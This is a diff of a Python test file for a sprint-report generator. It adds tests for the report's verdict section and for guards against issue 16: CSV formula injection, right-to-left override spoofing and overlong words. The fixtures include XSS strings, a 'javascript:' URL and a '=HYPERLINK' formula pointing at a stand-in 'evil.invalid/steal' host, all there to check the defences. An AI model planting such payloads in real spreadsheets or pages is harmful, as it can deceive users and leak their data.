@@ -33,6 +33,27 @@ from test_charts import (  # noqa: E402  (hand-built frames with the docs/frames
 AS_OF = datetime(2024, 3, 1, 12, tzinfo=timezone.utc)
 EVIL = "<script>alert('pwned')</script>"
 PEOPLE = ["Alice Secret", "alice@example.com", "5b10ac8d82e05b22cc7d4ef5"]
+N_CHARTS = 12
+# Issue 16: a formula for a spreadsheet, a right-to-left override that shows "ecilA" as "Alice",
+# and a 20,000-character word that made tables 273,000 px wide.
+FORMULA = '=HYPERLINK("https://evil.invalid/steal","click me")'
+RLO = "\u202eecilA\u202c"
+LONG_WORD = "x" * 20_000
+
+
+def verdict_frame() -> pd.DataFrame:
+    """A verdict as cadence.metrics.verdict writes it (its wording is tested in test_metrics_verdict)."""
+    rows = [
+        ("fast feedback", "Better with 1w than 2w: median feedback latency 6.0 h [4.0 h, 9.0 h] against 45 h.",
+         "clear", "the intervals do not overlap", "1w gives 6 h latency against 45 h, but say/do 0.50 against 0.80"),
+        ("honest timeboxes", "Can't tell whether 1w or 2w is better.", "can't tell", "too few sprints", ""),
+        ("a learning every week", "Better with 1w than 2w: weeks with a learning 80% against 50%.", "suggestive",
+         "the two intervals overlap", ""),
+        ("another cadence", "A trade-off: 1w did better than 2w on median feedback latency, and worse on say/do.",
+         "clear", "the intervals do not overlap", "1w gives 6 h latency against 45 h, but say/do 0.50 against 0.80"),
+    ]
+    frame = pd.DataFrame(rows, columns=["question", "answer", "evidence", "reason", "tradeoff"])
+    return frame.assign(across_teams="Across teams: too few teams.")
 
 
 def sample_data(synthetic: bool = True) -> ReportData:
@@ -72,22 +93,24 @@ def sample_data(synthetic: bool = True) -> ReportData:
     )
     learnings = pd.DataFrame(
         {
-            "source": ["demo", "demo"],
-            "team": ["A", "B"],
-            "key": ["A-7", "B-3"],
-            "summary": ["Spike", "EDA"],
-            "url": ["https://tracker.demo.invalid/browse/A-7", "javascript:alert(1)"],
-            "kind": ["marker", "item"],
-            "marker": ["Learning", None],
+            "source": ["demo", "demo", "demo"],
+            "team": ["A", "B", "B"],
+            "key": ["A-7", "B-3", "B-4"],
+            "summary": ["Spike", "EDA", "@SUM(1+1)"],
+            "url": ["https://tracker.demo.invalid/browse/A-7", "javascript:alert(1)",
+                    "https://tracker.demo.invalid/browse/B-4"],
+            "kind": ["marker", "item", "marker"],
+            "marker": ["Learning", None, "Result"],
             "text": [
                 f"Learning: caching halves latency, says Alice Secret (alice@example.com) {EVIL}",
                 "EDA of click logs",
+                f"{FORMULA} reviewed by {RLO}: {LONG_WORD}",
             ],
-            "occurred_at": [_t("2024-01-19"), _t("2024-01-10")],
-            "sprint_key": ["demo:12", "demo:21"],
-            "sprint_id": ["12", "21"],
-            "sprint_name": ["A 12", "B 21"],
-            "iso_week": ["2024-W03", "2024-W02"],
+            "occurred_at": [_t("2024-01-19"), _t("2024-01-10"), _t("2024-01-09")],
+            "sprint_key": ["demo:12", "demo:21", "demo:21"],
+            "sprint_id": ["12", "21", "21"],
+            "sprint_name": ["A 12", "B 21", "B 21"],
+            "iso_week": ["2024-W03", "2024-W02", "2024-W02"],
         }
     )
     summary = pd.DataFrame(
@@ -171,7 +194,23 @@ def sample_data(synthetic: bool = True) -> ReportData:
             }
         ),
         people=["Alice Secret", "5b10ac8d82e05b22cc7d4ef5"],
+        verdict=verdict_frame(),
+        timebox_problems=pd.DataFrame(
+            {
+                "source": ["demo"], "team": ["B"], "key": ["B-9"], "summary": ["Due before it began"],
+                "url": ["https://tracker.demo.invalid/browse/B-9"], "type": ["Story"],
+                "problem": ["due before start"], "start": [_t("2024-01-10 09:00")],
+                "due_date": [_t("2024-01-03")], "before_start_h": [153.0], "rule_used": [None],
+            }
+        ),
     )
+
+
+def listing_rows(page: str, listing_id: str) -> list[list[str]]:
+    """The rows (cells as HTML) that itables hands DataTables for one listing: its ``data_json``."""
+    script = re.search(rf'(?s)querySelectorAll\("#{listing_id}:not\(\.dataTable\)"\).*?new ITable', page).group(0)
+    data_json = re.search(r'"data_json": ("(?:[^"\\]|\\.)*")', script).group(1)
+    return json.loads(json.loads(data_json))
 
 
 @pytest.fixture(scope="module")
@@ -189,7 +228,7 @@ def test_writes_qmd_html_and_every_chart_as_png_svg_and_json(rendered: Path) -> 
     out = rendered.parent
     assert rendered.name == "report.html" and (out / "report.qmd").is_file()
     stems = {p.name.split(".")[0] for p in (out / "report_assets").glob("*.vl.json")}
-    assert len(stems) == 11
+    assert len(stems) == N_CHARTS
     for stem in stems:
         assert (out / "report_assets" / f"{stem}.png").read_bytes()[:4] == b"\x89PNG"
         assert "<svg" in (out / "report_assets" / f"{stem}.svg").read_text()[:400]
@@ -201,12 +240,13 @@ def test_html_is_self_contained(page: str) -> None:
     assert not re.search(r"<script[^>]*\ssrc=", page)
     markup = re.sub(r"(?s)(<script[^>]*>).*?</script>", r"\1</script>", page)  # drop the inlined JavaScript
     assert not re.search(r'<(img|link|iframe|source|video|audio)[^>]+(src|href)="(?!data:)', markup)
-    assert page.count('class="cadence-chart"') == 11
+    assert page.count('class="cadence-chart"') == N_CHARTS
     assert "window.vegaEmbed" in page  # the bundle is inlined
 
 
 def test_sections_in_product_order(page: str) -> None:
     heads = [
+        "The verdict",
         "Headline metrics per team",
         "Cadence comparison",
         "Feedback loops",
@@ -346,7 +386,7 @@ def test_demo_report_end_to_end(demo_report: tuple[Path, Path]) -> None:
                 "WHERE kind = 'comment' AND regexp_matches(text, '(?im)^learning:') LIMIT 5"
             ).fetchall()
         ]
-    assert page.count('class="cadence-chart"') == 11 and 'id="synthetic-banner"' in page
+    assert page.count('class="cadence-chart"') == N_CHARTS and 'id="synthetic-banner"' in page
     markup = re.sub(r"(?s)(<script[^>]*>).*?</script>", r"\1</script>", page)
     shown = markup + "".join(p.read_text() for p in (html.parent / "report_assets").glob("*.vl.json"))
     assert len(people) > 5
@@ -354,7 +394,8 @@ def test_demo_report_end_to_end(demo_report: tuple[Path, Path]) -> None:
         assert not re.search(rf"\b{re.escape(person)}\b", shown, re.IGNORECASE), person
     for team in teams:
         assert f"<td>{team}</td>" in markup
-    assert learning_keys and all(f">{key}</a>" in markup for key in learning_keys)
+    learnings = " ".join(cell for row in listing_rows(page, "listing-learnings") for cell in row)
+    assert learning_keys and all(f">{key}</a>" in learnings for key in learning_keys)
 
 
 @settings(max_examples=200, deadline=None)
@@ -364,9 +405,11 @@ def test_any_tracker_text_stays_text_in_a_table_cell(text: str) -> None:
 
     from cadence.report.html import Column, raw_block, table
 
+    from cadence.report.safe import neutralise
+
     markup = table(pd.DataFrame({"summary": [text]}), [Column("summary", "Title")])
-    cell = re.search(r"(?s)<td>(.*)</td>", markup).group(1)
-    assert "<" not in cell and ">" not in cell and html_lib.unescape(cell) == text
+    cell = re.search(r"(?s)<td>(.*)</td>", markup).group(1).replace("<wbr>", "")  # break points in long words
+    assert "<" not in cell and ">" not in cell and html_lib.unescape(cell) == neutralise(text)
     block = raw_block(markup)
     assert block.count("```") == 2  # nothing in the text can close the raw block early
 
@@ -392,10 +435,86 @@ def test_empty_warehouse_still_makes_a_report(tmp_path: Path) -> None:
         pass
     wh = cadence.open(tmp_path / "empty.duckdb")
     page = build_report(wh, tmp_path / "out", as_of=AS_OF).read_text()
-    assert page.count('class="cadence-chart"') == 11
+    assert page.count('class="cadence-chart"') == N_CHARTS
     assert "No closed sprints yet." in page and "no recorded sync" in page
     assert "synthetic-banner" not in page
     spec = json.loads((tmp_path / "out" / "report_assets" / "team_timeline.vl.json").read_text())
     assert spec["mark"]["type"] == "text"  # the empty state, not an empty axis
     with pytest.raises(CadenceError, match="no closed sprint"):
         build_slides(wh, tmp_path / "slides", as_of=AS_OF)
+
+
+def test_the_verdict_comes_first_with_its_words(page: str) -> None:
+    body = page[page.index("<body") :]
+    first = re.search(r"<h2[^>]*>([^<]*)</h2>", body).group(1)
+    assert first == "The verdict"
+    verdict = page[page.index(">The verdict</h2>") : page.index(">Headline metrics per team</h2>")]
+    for question in ("Fast feedback?", "Honest timeboxes?", "At least one concrete learning every week?",
+                     "Would another cadence do better?"):
+        assert question in verdict
+    assert verdict.count('class="word word-clear"') == 2 and 'class="word word-cant-tell"' in verdict
+    assert 'class="word word-suggestive"' in verdict
+    assert "Trade-off: 1w gives 6 h latency against 45 h, but say/do 0.50 against 0.80" in verdict
+    assert "Cohen" in verdict  # the rule that picks the word is on the page
+
+
+def test_listings_are_datatables_inlined_for_offline_use(page: str) -> None:
+    """itables in offline mode: the DataTables bundle is in the page; each listing pages at 20 rows."""
+    for listing_id in ("listing-overruns", "listing-learnings", "listing-due-before-start", "listing-cadences"):
+        assert f'<table id="{listing_id}"' in page
+    assert page.count("injectModule(") >= 1 and "unpkg.com" not in page  # DataTables from the page, not a CDN
+    assert '"pageLength": 20' in page
+
+
+def test_csv_files_are_guarded_against_formula_injection(rendered: Path) -> None:
+    """OWASP CSV Injection: a text cell starting with = + - @ (tab, CR) is prefixed with a single quote."""
+    import csv
+
+    with open(rendered.parent / "report_assets" / "learnings.csv", newline="", encoding="utf-8") as f:
+        rows = {r["key"]: r for r in csv.DictReader(f)}
+    assert rows["B-4"]["summary"] == "'@SUM(1+1)"
+    assert rows["B-4"]["text"].startswith("'=HYPERLINK(") and "\u202e" not in rows["B-4"]["text"]
+    assert rows["B-3"]["text"] == "EDA of click logs"
+    with open(rendered.parent / "report_assets" / "by_sprint.csv", newline="", encoding="utf-8") as f:
+        sprint = next(csv.DictReader(f))
+    assert not sprint["say_do"].startswith("'")  # numbers stay numbers
+    assert (rendered.parent / "report_assets" / "timebox_problems.csv").read_text().count("due before start") == 1
+
+
+def test_csv_guard_rule() -> None:
+    from cadence.report.safe import csv_cell
+
+    guarded = ["=1+1", "+1", "-2+3", "@SUM(A1)", "\t=1", "\r=1", "  =1", "\uff1d1"]
+    assert [csv_cell(v) for v in guarded] == ["'" + v for v in guarded]
+    assert [csv_cell(v) for v in ("plain", "1-2", "", "a=b")] == ["plain", "1-2", "", "a=b"]
+    assert csv_cell(-0.5) == -0.5
+
+
+def test_bidirectional_overrides_are_neutralised(page: str, rendered: Path) -> None:
+    for char in "\u202a\u202b\u202c\u202d\u202e\u2066\u2067\u2068\u2069":
+        assert char not in page and char not in (rendered.parent / "report.qmd").read_text()
+    assert "reviewed by ecilA" in page  # the text is there, read in its real order
+
+
+def test_a_20000_character_word_gets_break_points(page: str) -> None:
+    assert LONG_WORD not in page
+    assert ("x" * 20 + "<wbr>") * 10 in page
+
+
+def test_due_dates_before_the_start_are_listed_apart_and_counted(page: str) -> None:
+    timeboxes = page[page.index(">Timeboxes</h2>") : page.index(">Learnings</h2>")]
+    assert "Due before the start (1)" in timeboxes and "B-9" in timeboxes and "153.0" in timeboxes
+    quality = page[page.index(">Data quality</h2>") :]
+    assert "due before start" in quality and "10% of the timebox" in timeboxes
+
+
+def test_the_trend_window_is_configurable(tmp_path: Path) -> None:
+    """With [report] trend_window = 1, A 14's say/do (75%) is compared with A 13's alone (100%)."""
+    import dataclasses
+
+    from cadence.config import Config
+
+    data = dataclasses.replace(sample_data(), config=Config(trend_window=1))
+    page = write_report(data, tmp_path).read_text()
+    row = re.search(r"<tr><td>A</td><td>A 14</td>.*?</tr>", page).group(0)
+    assert "▼ from 100%" in row and "mean of the 1 sprints before" in row
